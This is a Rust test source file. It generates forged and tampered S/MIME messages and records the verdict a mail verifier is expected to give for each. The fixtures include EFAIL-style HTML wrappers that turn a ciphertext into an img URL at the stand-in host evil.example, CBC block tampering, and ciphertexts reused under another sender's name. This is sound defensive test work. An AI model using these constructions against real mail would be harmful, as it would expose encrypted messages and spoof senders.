//! Ciphertexts out of place, changed, or under a name that did not write them. What a
//! reader's key must answer stands in `decrypt`.

use std::path::Path;
use std::process::Command;

use ssmax_cms::enveloped::{self, ContentCipher, RsaTransport};
use ssmax_mail::compose;
use ssmax_primitives::{ContentKey, SystemRandom};

use super::der::{Node, oid};
use super::{ALICE, Attack, ENTITY, changed, entity_signed, fields};
use crate::fixture::{WORLD, encrypted, mail};

const CLOSED: &str = "none - encrypted";

pub(super) fn attacks(scratch: &Path) -> Vec<Attack> {
    let mut attacks = out_of_place();
    attacks.extend(under_another_name());
    attacks.extend(changed_ciphertexts());
    attacks.extend(recipients());
    attacks.extend(by_openssl(scratch));
    attacks
}

/// What Alice signed, encrypted for Bob.
fn of_alice() -> Vec<u8> {
    encrypted(&entity_signed(&WORLD.alice, ENTITY), &[&WORLD.bob_encryption])
}

fn html(text: &str) -> Vec<u8> {
    format!("Content-Type: text/html\r\n\r\n{text}").into_bytes()
}

fn out_of_place() -> Vec<Attack> {
    let beside = |name, note, expect, subtype: &str, parts: &[Vec<u8>]| {
        let entity = compose::multipart(subtype, &[], "=_around", parts);
        Attack::new(name, note, expect, mail(&fields(ALICE), &entity))
            .decrypted("not-encrypted", "")
    };
    let forwarded =
        [b"Content-Type: message/rfc822\r\n\r\n", &mail(&fields(ALICE), &of_alice())[..]];
    vec![
        beside(
            "cipher-between-html",
            "a ciphertext between two halves of a link (EFAIL, direct exfiltration)",
            "none - not-signed",
            "mixed",
            &[html("<img src=\"http://evil.example/"), of_alice(), html("\">")],
        ),
        beside(
            "cipher-below-mixed",
            "a ciphertext as the only part of a multipart",
            "none - not-signed",
            "mixed",
            &[of_alice()],
        ),
        beside(
            "cipher-below-related",
            "a ciphertext as a picture",
            "none - not-signed",
            "related",
            &[html("<iframe src=\"cid:x\">"), of_alice()],
        ),
        beside(
            "cipher-below-alternative",
            "a ciphertext as an alternative",
            "none - not-signed",
            "alternative",
            &[ENTITY.to_vec(), of_alice()],
        ),
        Attack::new(
            "cipher-forwarded",
            "a ciphertext in a forwarded mail",
            "none - not-signed",
            mail(&fields("Mallory <mallory@a.example>"), &forwarded.concat()),
        )
        .decrypted("not-encrypted", ""),
        Attack::new(
            "cipher-below-a-signed-mixed",
            "a ciphertext beside text, under Mallory's own signature",
            "bad whole-message encrypted-part-below",
            mail(
                &fields("mallory@a.example"),
                &entity_signed(
                    &WORLD.mallory,
                    &compose::multipart(
                        "mixed",
                        &[],
                        "=!mixed",
                        &[html("<img src=\"http://evil.example/"), of_alice()],
                    ),
                ),
            ),
        )
        .decrypted("not-encrypted", ""),
    ]
}

fn under_another_name() -> Vec<Attack> {
    let opened = |name, note, from: &str, content: &[u8], expect| {
        let mail = mail(&fields(from), &encrypted(content, &[&WORLD.bob_encryption]));
        Attack::new(name, note, CLOSED, mail).decrypted("success", expect)
    };
    const MALLORY: &str = "Mallory <mallory@a.example>";
    let inner = entity_signed(&WORLD.alice, ENTITY);
    let protected = entity_signed(
        &WORLD.alice,
        b"From: Alice <alice@a.example>\r\nTo: mallory@a.example\r\nSubject: Love\r\n\
          HP-Outer: From: Alice <alice@a.example>\r\nHP-Outer: To: mallory@a.example\r\n\
          HP-Outer: Subject: [...]\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nI do.\r\n",
    );
    let secret = entity_signed(
        &WORLD.alice,
        b"From: Alice <alice@a.example>\r\nSubject: Love\r\n\
          HP-Outer: From: Alice <alice@a.example>\r\n\
          HP-Outer: Subject: [...]\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nI do.\r\n",
    );
    let around = mail(&fields(MALLORY), &entity_signed(&WORLD.mallory, &of_alice()));
    let mixed = compose::multipart("mixed", &[], "=!mixed", &[html("Pay Mallory."), inner.clone()]);
    vec![
        opened(
            "stolen-ciphertext",
            "what Alice signed, in a mail of Mallory's",
            MALLORY,
            &inner,
            "bad binding other-address",
        ),
        Attack::new(
            "stolen-ciphertext-signed-again",
            "Alice's ciphertext under Mallory's signature",
            CLOSED,
            around,
        )
        .decrypted("success", "bad binding other-address"),
        opened(
            "unsigned-inside",
            "an encryption that anybody could make",
            ALICE,
            ENTITY,
            "none - not-signed",
        ),
        opened(
            "signed-part-below-inside",
            "a lie beside what Alice signed, both encrypted",
            ALICE,
            &mixed,
            "bad whole-message signed-part-below",
        ),
        opened(
            "encrypted-twice",
            "an encryption inside an encryption",
            ALICE,
            &of_alice(),
            "none - encrypted",
        ),
        opened(
            "passed-on-encrypted",
            "what Alice wrote to Mallory, encrypted again for Bob",
            ALICE,
            &protected,
            "bad whole-message outer-field-differs",
        ),
        opened(
            "subject-of-an-encrypted-mail-changed",
            "the obscured subject outside replaced by another",
            ALICE,
            &secret,
            "bad whole-message outer-field-differs",
        ),
    ]
}

/// EnvelopedData: version, recipients, encryptedContentInfo (type, algorithm, [0]).
fn surgery(object: &[u8], change: impl FnOnce(&mut Node)) -> Vec<u8> {
    let mut tree = Node::parse(object);
    change(tree.at(&[1, 0]));
    tree.encode()
}

fn object(cipher: ContentCipher, infos: impl Fn(&ContentKey) -> Vec<Vec<u8>>) -> Vec<u8> {
    let key = ContentKey::random(&SystemRandom, cipher.key_len());
    let content = entity_signed(&WORLD.alice, ENTITY);
    let sealed = enveloped::encrypt(&content, cipher, &key, &SystemRandom).unwrap();
    sealed.with_recipients(&infos(&key))
}

fn info(key: &ContentKey) -> Vec<u8> {
    let certificate = &WORLD.bob_encryption.certificate;
    enveloped::recipient_info(certificate, key, None, RsaTransport::Pkcs1).unwrap()
}

fn part(object: &[u8], label: &str) -> Vec<u8> {
    let mut entity = format!(
        "Content-Type: application/pkcs7-mime; smime-type={label}; name=\"smime.p7m\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n"
    )
    .into_bytes();
    entity.extend(compose::base64_body(object));
    mail(&fields(ALICE), &entity)
}

fn changed_ciphertexts() -> Vec<Attack> {
    let cbc = object(ContentCipher::Aes256Cbc, |key| vec![info(key)]);
    let gcm = object(ContentCipher::Aes256Gcm, |key| vec![info(key)]);
    let last_block = surgery(&cbc, |data| {
        let content = data.at(&[2, 2]).content();
        let at = content.len() - 17;
        content[at] ^= 0x40;
    });
    let vector = surgery(&cbc, |data| data.at(&[2, 1, 1]).content()[0] ^= b'C' ^ b'D');
    let gadget = surgery(&cbc, |data| {
        let content = data.at(&[2, 2]).content();
        let (head, tail) = content.split_at(160);
        *content = [head, &tail[..32], tail].concat();
    });
    let cut = surgery(&cbc, |data| {
        let content = data.at(&[2, 2]).content();
        content.truncate(content.len() - 5);
    });
    let shorter_key = surgery(&cbc, |data| {
        *data.at(&[2, 1, 0]) = oid("608648016503040102");
    });
    let as_gcm = surgery(&cbc, |data| {
        *data.at(&[2, 1, 0]) = oid("60864801650304012e");
    });
    let tag = surgery(&gcm, |data| data.inside().last_mut().unwrap().content()[0] ^= 1);
    let flipped = surgery(&gcm, |data| data.at(&[2, 2]).content()[40] ^= 1);
    let new = |name, note, object: &[u8], label, answer, expect| {
        Attack::new(name, note, CLOSED, part(object, label)).decrypted(answer, expect)
    };
    const ENVELOPED: &str = "enveloped-data";
    const AUTHENTICATED: &str = "authEnveloped-data";
    vec![
        new("cbc-last-block", "the last block changed", &last_block, ENVELOPED, "failed", ""),
        new(
            "cbc-first-block",
            "the first octet changed through the initialisation vector",
            &vector,
            ENVELOPED,
            "success",
            "none - not-signed",
        ),
        new(
            "cbc-blocks-inserted",
            "blocks repeated in the middle (EFAIL, gadgets)",
            &gadget,
            ENVELOPED,
            "success",
            "bad structure ?",
        ),
        new("cbc-cut", "a ciphertext of no whole blocks", &cut, ENVELOPED, "failed", ""),
        new(
            "relabelled-shorter-key",
            "AES-256 called AES-128",
            &shorter_key,
            ENVELOPED,
            "failed",
            "",
        ),
        new("relabelled-gcm", "CBC called GCM", &as_gcm, ENVELOPED, "object", ""),
        new("gcm-tag", "the tag changed", &tag, AUTHENTICATED, "failed", ""),
        new("gcm-octet", "one octet changed", &flipped, AUTHENTICATED, "failed", ""),
    ]
}

fn recipients() -> Vec<Attack> {
    let foreign = || {
        let other = ContentKey::random(&SystemRandom, 32);
        info(&other)
    };
    let bogus_first = object(ContentCipher::Aes256Cbc, |key| vec![foreign(), info(key)]);
    let only_bogus = object(ContentCipher::Aes256Cbc, |_| vec![foreign()]);
    let for_mallory = object(ContentCipher::Aes256Cbc, |key| {
        let mallory = &WORLD.mallory.certificate;
        vec![enveloped::recipient_info(mallory, key, None, RsaTransport::Pkcs1).unwrap()]
    });
    let new = |name, note, object: &[u8], answer| {
        Attack::new(name, note, CLOSED, part(object, "enveloped-data")).decrypted(answer, "")
    };
    vec![
        Attack {
            without_certificate: Some("success"),
            ..Attack::new(
                "recipient-put-before",
                "a RecipientInfo in Bob's name put before his own: the first that names him \
                 counts, unless his key is tried on all",
                CLOSED,
                changed(
                    &part(&bogus_first, "enveloped-data"),
                    "From: Alice <alice@",
                    "From: Mallory <mallory@",
                ),
            )
            .decrypted("failed", "bad binding other-address")
        },
        new(
            "recipient-with-another-key",
            "Bob's RecipientInfo holds another key",
            &only_bogus,
            "failed",
        ),
        new("recipient-somebody-else", "a mail for somebody else", &for_mallory, "failed"),
    ]
}

fn by_openssl(scratch: &Path) -> Vec<Attack> {
    std::fs::write(scratch.join("bob.pem"), WORLD.bob_encryption.certificate.to_pem()).unwrap();
    std::fs::write(scratch.join("signed"), entity_signed(&WORLD.alice, ENTITY)).unwrap();
    let run = |arguments: &[&str]| {
        let output = Command::new("openssl")
            .current_dir(scratch)
            .args(["cms", "-binary", "-in", "signed", "-outform", "DER"])
            .args(arguments)
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    };
    let old = run(&["-encrypt", "-des3", "bob.pem"]);
    let digested = run(&["-digest_create"]);
    vec![
        Attack::new(
            "cipher-3des",
            "a cipher of 64-bit blocks",
            CLOSED,
            part(&old, "enveloped-data"),
        )
        .decrypted("object", ""),
        Attack::new(
            "digested",
            "a digest over Alice's mail, which anybody can make",
            CLOSED,
            part(&digested, "signed-data"),
        )
        .decrypted("not-encrypted", ""),
    ]
}
